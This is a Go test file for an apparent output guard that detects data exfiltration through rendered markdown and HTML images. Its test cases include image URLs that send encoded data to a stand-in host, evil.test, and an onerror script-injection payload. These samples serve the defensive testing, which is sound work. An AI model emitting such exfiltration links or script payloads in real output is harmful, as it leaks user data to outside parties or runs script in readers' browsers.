package exfil

import (
	"strings"
	"testing"

	"bartizan/internal/guard/guardtest"
)

func TestExfil(t *testing.T) {
	in, err := New(Config{Query: 60, Hosts: []string{"cdn.example.com"}})
	if err != nil {
		t.Fatal(err)
	}
	long := strings.Repeat("c2VjcmV0", 12)
	guardtest.Run(t, in, []guardtest.Case{
		{Text: "![x](https://evil.test/p.png?d=" + long + ")", Note: "sends 98 bytes"},
		{Text: "![x](https://evil.test/?q={data})", Note: "a place for data"},
		{Text: "![a][r]\n\n[r]: https://evil.test/?q=" + long, Note: "by reference"},
		{Text: `<img src="https://evil.test/?q=` + long + `">`, Note: "<img>"},
		{Text: `<img src=x onerror=alert(1)>`, Note: "runs a script"},
		{Text: "![logo](https://cdn.example.com/logo.png?v=" + long + ")"},
		{Text: "![logo](https://a.cdn.example.com/logo.png?v=" + long + ")"},
		{Text: "![chart](chart.png)"},
		{Text: "see [the page](https://example.org/?q=" + long + ")"},
		{Text: "a < b and c > d"},
	})
	for _, bad := range []Config{{Query: -1}, {Hosts: []string{"http://x"}}} {
		if _, err := New(bad); err == nil {
			t.Errorf("%+v: no error", bad)
		}
	}
}
